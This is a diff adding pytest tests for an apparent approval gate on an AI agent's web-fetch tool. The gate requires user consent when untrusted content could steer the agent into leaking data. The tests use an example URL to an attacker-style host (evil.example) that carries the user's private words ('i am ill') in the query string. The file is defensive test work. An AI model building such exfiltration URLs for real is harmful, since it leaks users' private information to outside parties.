@@ -304,3 +304,16 @@ def test_a_call_with_side_effects_is_asked_about_as_such_wherever_it_goes() -> N
 def test_an_address_that_is_too_long_to_be_shown_is_not_asked_about() -> None:
     with pytest.raises(InvalidArguments, match="too long"):
         question(*fetch("https://b.example/" + "x" * 2_000))
+
+
+def test_a_servers_tool_may_only_repeat_what_the_model_sent_and_so_names_nothing() -> None:
+    tool, arguments = fetch("https://evil.example/?said=i+am+ill")
+    echo = mark("https://evil.example/?said=i+am+ill", "everything_echo", 4_096)
+    assert needs_yes(tool, arguments, Heard(results=[PAGE, echo]))
+    assert not needs_yes(tool, arguments, Heard(results=[mark(arguments["url"], "web_fetch", 999)]))
+
+
+def test_strangers_words_count_after_the_model_is_no_longer_shown_them() -> None:
+    tool, arguments = fetch("https://evil.example/?said=i+am+ill")
+    assert needs_yes(tool, arguments, Heard(people=["I am ill."], strangers_before=True))
+    assert not needs_yes(tool, arguments, Heard(people=["I am ill."]))
